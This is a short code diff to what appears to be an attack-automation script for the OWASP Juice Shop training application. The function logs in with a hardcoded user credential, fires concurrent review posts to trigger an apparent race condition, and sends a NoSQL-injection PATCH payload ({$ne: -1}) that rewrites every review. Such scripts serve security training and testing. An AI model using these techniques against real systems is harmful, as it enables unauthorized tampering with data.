@@ -211,7 +211,7 @@ async function reviewAndFileComplaint(me: Attacker): Promise<void> {
   const { token } = await me.logIn('jim@juice-sh.op', 'ncc-1701')
   const { data } = (await me.get('/rest/products/1/reviews')).json<{ data: { _id: string; author: string }[] }>()
   const id = data.find(({ author }) => author === 'admin@juice-sh.op')?._id
-  await me.postTogether(3, '/rest/products/reviews', { id }, token)
+  await Promise.all([1, 2, 3].map(() => me.post('/rest/products/reviews', { id }, { token })))
   await me.call('PATCH', '/rest/products/reviews', { body: { id: { $ne: -1 }, message: 'x' }, token })
 }
 
